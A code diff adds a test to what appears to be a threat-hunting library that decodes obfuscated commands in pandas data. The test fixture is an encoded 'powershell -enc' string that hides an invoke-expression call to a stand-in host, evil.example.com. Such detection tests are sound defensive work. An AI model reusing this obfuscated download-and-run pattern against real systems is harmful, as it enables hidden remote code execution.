@@ -65,3 +65,11 @@ def test_accessor_on_frames_and_series() -> None:
     assert frame.huntbook.extract_iocs()["observable"].tolist() == ["8.8.8.8"]
     assert frame["cmd"].huntbook.extract_iocs()["column"].tolist() == ["cmd"]
     assert huntbook.extract_iocs("x 9.9.9.9")["observable"].tolist() == ["9.9.9.9"]
+
+
+def test_accessor_unpacks() -> None:
+    encoded = "SQBFAFgAIAAoACcAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtACcAKQA="
+    frame = pd.DataFrame({"cmd": [f"powershell -enc {encoded}", "dir"]})
+    layers = frame.huntbook.unpack(columns="cmd")
+    assert "http://evil.example.com" in " ".join(layers["text"])
+    assert huntbook.unpack(f"x {encoded}").children
